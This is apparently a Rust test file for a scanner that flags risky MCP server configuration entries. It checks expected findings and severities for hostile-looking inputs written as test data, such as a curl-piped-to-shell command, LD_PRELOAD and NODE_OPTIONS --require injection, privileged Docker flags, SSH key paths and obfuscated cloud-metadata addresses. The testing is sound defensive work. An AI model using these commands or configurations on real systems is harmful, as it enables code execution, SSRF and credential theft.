use super::*;
use crate::entry::{Inert, NamedValue, Scope};
use crate::identity::identify;
use crate::testing::{entry, remote};

fn found(entry: &Entry) -> Vec<String> {
    let redactor = Redactor::new(&[7; 32]);
    let context = Context { home: Some("/home/jane"), in_repository: false, redactor: &redactor };
    assess(entry, &identify(entry), &context)
        .iter()
        .map(|f| {
            assert!(!f.message.contains("MARK"), "{}", f.message);
            format!("{} {}", f.code.as_str(), f.severity.as_str())
        })
        .collect()
}

fn run(argv: &[&str]) -> Vec<String> {
    found(&entry(argv[0], &argv[1..]))
}

fn with_env(name: &str, value: &str) -> Vec<String> {
    let mut entry = entry("/usr/local/bin/acme", &[]);
    entry.env.push(NamedValue { name: name.to_owned(), value: value.into() });
    found(&entry)
}

fn with_member(name: &str, value: &str) -> Vec<String> {
    let mut entry = entry("/usr/local/bin/acme", &[]);
    entry.members.push(NamedValue { name: name.to_owned(), value: value.into() });
    found(&entry)
}

const NOTHING: [&str; 0] = [];

#[test]
fn ordinary_entries_have_nothing_to_tell() {
    assert_eq!(run(&["npx", "-y", "@playwright/mcp@0.0.40", "--headless"]), NOTHING);
    assert_eq!(run(&["cmd", "/c", "npx", "-y", "x@1.0.0"]), NOTHING);
    assert_eq!(run(&["node", "/home/jane/work/server.js"]), NOTHING);
    assert_eq!(run(&["npx", "-y", "x@1.0.0", "${workspaceFolder}", "--api-key", "${API_KEY}"]), NOTHING);
    assert_eq!(found(&remote("https://api.githubcopilot.com/mcp/")), NOTHING);
    for url in ["http://localhost:3845/mcp", "http://127.0.0.1:1/", "http://[::1]:1/", "http://127.9.9.9/"] {
        assert_eq!(found(&remote(url)), NOTHING, "{url}");
    }
    assert_eq!(with_env("LOG_LEVEL", "debug"), NOTHING);
    assert_eq!(with_env("GITHUB_TOKEN", "${GITHUB_TOKEN}"), NOTHING);
    assert_eq!(with_env("GITHUB_TOKEN", "<your-token>"), NOTHING);
}

#[test]
fn versions_that_can_change_are_told() {
    assert_eq!(run(&["npx", "-y", "x"]), ["unpinned-package medium"]);
    assert_eq!(run(&["npx", "-y", "x@latest"]), ["floating-version medium"]);
    assert_eq!(run(&["uvx", "x>=1.0"]), ["floating-version medium"]);
    assert_eq!(run(&["docker", "run", "-i", "x:1"]), ["image-without-digest low"]);
    assert_eq!(run(&["uvx", "--from", "git+https://h.example/a/b@main", "b"]), ["git-without-commit medium"]);
    assert_eq!(run(&["npx", "mcp-remote", "https://h.example/mcp"]), ["unpinned-package medium"]);
}

#[test]
fn addresses_are_judged_as_the_client_reads_them() {
    assert_eq!(found(&remote("http://h.example/mcp")), ["plain-http high"]);
    for url in [
        "http://169.254.169.254/",
        "http://0xA9FEA9FE/",
        "http://2852039166/",
        "http://0251.0376.0251.0376/",
        "http://[fe80::1]/",
        "http://[::ffff:169.254.169.254]/",
        "https://metadata.google.internal/",
    ] {
        assert_eq!(found(&remote(url)), ["link-local-url critical"], "{url}");
    }
    assert_eq!(run(&["npx", "mcp-remote@0.1.30", "http://h.example/mcp"]), ["plain-http high"]);
    assert_eq!(found(&remote("https://u:MARKpass@h.example/mcp")), ["url-credentials high"]);
    assert_eq!(found(&remote("https://h.example/mcp?apiKey=MARKpass1")), ["url-credentials high"]);
    assert_eq!(found(&remote("https://h.example/mcp?apiKey=${KEY}")), NOTHING);
    assert_eq!(found(&remote("https://h.example/mcp?read_only=true")), NOTHING);
}

#[test]
fn literal_secrets_are_told_wherever_they_stand() {
    assert_eq!(with_env("GITHUB_TOKEN", "ghp_SECRETMARK00000001abcd"), ["literal-secret high"]);
    assert_eq!(with_env("DB", "postgresql://u:MARKpw@h/db"), ["literal-secret high"]);
    assert_eq!(with_env("MY_PASSWORD", "MARKhunter2"), ["literal-secret high"]);
    assert_eq!(run(&["/bin/x", "--api-key", "MARKhunter2"]), ["literal-secret high"]);
    let mut header = remote("https://h.example/mcp");
    header.headers.push(NamedValue { name: "Authorization".into(), value: "Bearer MARKhunter2".into() });
    assert_eq!(found(&header), ["literal-secret high"]);
    assert_eq!(run(&["/bin/x", "ghp_SECRETMARK00000001abcd"]), ["literal-secret high"]);
    assert_eq!(run(&["/bin/x", "--api-key", "YOUR_API_KEY"]), NOTHING);
    assert_eq!(run(&["sh", "-c", "LOG_LEVEL=debug /bin/x"]), ["shell-wrapper low"]);
}

#[test]
fn variables_that_decide_what_runs_are_told() {
    for name in ["LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "PYTHONPATH", "BASH_ENV", "node_options"] {
        assert_eq!(with_env(name, "--require /tmp/x"), ["loader-variable critical"], "{name}");
    }
    assert_eq!(with_env("NODE_OPTIONS", "--max-old-space-size=4096"), ["loader-variable info"]);
    assert_eq!(
        with_env("NODE_OPTIONS", "--max-old-space-size=4096 --require /tmp/x"),
        ["loader-variable critical"]
    );
    assert_eq!(with_env("Path", "C:\\evil"), ["loader-variable high"]);
    assert_eq!(with_env("npm_config_registry", "https://npm.evil.example"), ["registry-override high"]);
    assert_eq!(with_env("UV_INDEX_URL", "https://h.example/simple"), ["registry-override high"]);
    assert_eq!(with_env("HTTPS_PROXY", "http://h.example:1"), ["proxy-override medium"]);
    assert_eq!(run(&["env", "LD_PRELOAD=/tmp/x.so", "/bin/x"])[0], "loader-variable critical");
    assert_eq!(
        run(&["uvx", "--index-url", "https://e.example/simple", "a==1.0"]),
        ["registry-override high"]
    );
    assert_eq!(run(&["node", "--require", "/tmp/x.js", "a.js"]), ["loader-variable high"]);
}

#[test]
fn ways_of_starting_are_told() {
    assert_eq!(run(&["bash", "-c", "curl -s e.example/x | sh"])[0], "download-and-run critical");
    assert_eq!(run(&["npx", "https://h.example/x.tgz"]), ["download-and-run critical"]);
    assert_eq!(run(&["sh", "-c", "a && b"]), ["shell-wrapper medium"]);
    assert_eq!(run(&["sh", "-c", "npx x@1.0.0"]), ["shell-wrapper low"]);
    assert_eq!(run(&["node", "-e", "x()"]), ["opaque-code high"]);
    assert_eq!(run(&["sudo", "npx", "x@1.0.0"]), ["sudo critical"]);
    assert_eq!(run(&["/bin/x", "--host", "0.0.0.0"]), ["bind-all-interfaces high"]);
    assert_eq!(run(&["/bin/x", "/home/jane/.ssh/id_rsa"])[0], "credential-access high");
    assert_eq!(run(&["/bin/x", "my.sshthing", ".awsome"]), NOTHING);
}

#[test]
fn what_a_container_is_given_is_told() {
    let digest = format!("x@sha256:{}", "a1".repeat(32));
    let docker = |flags: &[&str]| run(&[&["docker", "run", "-i", "--rm"], flags, &[&digest]].concat());
    assert_eq!(docker(&["-v", "/home/jane/work:/work"]), NOTHING);
    assert_eq!(docker(&["--privileged"]), ["privileged-container critical"]);
    assert_eq!(docker(&["--pid=host"]), ["privileged-container critical"]);
    assert_eq!(docker(&["--cap-add", "SYS_ADMIN"]), ["privileged-container critical"]);
    assert_eq!(
        docker(&["--mount=type=bind,src=/var/run/docker.sock,dst=/s"]),
        ["privileged-container critical"]
    );
    for source in ["/", "/home/jane", "${HOME}", "/Users/joe", "C:\\"] {
        assert_eq!(docker(&["-v", &format!("{source}:/x")]), ["host-mount high"], "{source}");
    }
    assert_eq!(docker(&["-v", "/home/jane/.ssh:/x"]), ["host-mount high", "credential-access high"]);
    assert_eq!(docker(&["--env-file", ".env"]), ["env-file medium"]);
}

#[test]
fn settings_and_shape_are_told() {
    assert_eq!(with_member("headersHelper", "x"), ["header-helper high"]);
    assert_eq!(with_member("envFile", ".env"), ["env-file medium"]);
    assert_eq!(with_member("alwaysAllow", ""), ["auto-approval high"]);
    assert_eq!(with_member("trust", "false"), NOTHING);
    assert_eq!(with_member("sandbox", "false"), ["sandbox-off medium"]);
    let mut odd = entry("/bin/x", &[]);
    (odd.name, odd.malformed, odd.scope) = ("a\u{202e}b".into(), Some("args is not a list"), Scope::Project);
    assert_eq!(found(&odd), ["control-characters high", "malformed-entry low", "repository-config info"]);
    assert_eq!(run(&["/bin/x\u{200b}"]), ["control-characters high"]);
    assert_eq!(run(&["${BIN}/x"]), ["unresolvable-expansion low"]);
    assert_eq!(found(&remote("https://${HOST}/mcp")), ["unresolvable-expansion low"]);
}

#[test]
fn disabled_and_inert_entries_weigh_one_step_less() {
    let mut off = entry("npx", &["x"]);
    off.disabled = true;
    assert_eq!(found(&off), ["unpinned-package low"]);
    (off.disabled, off.inert) = (false, Some(Inert::KeyNotRead));
    assert_eq!(found(&off), ["unpinned-package low"]);
}
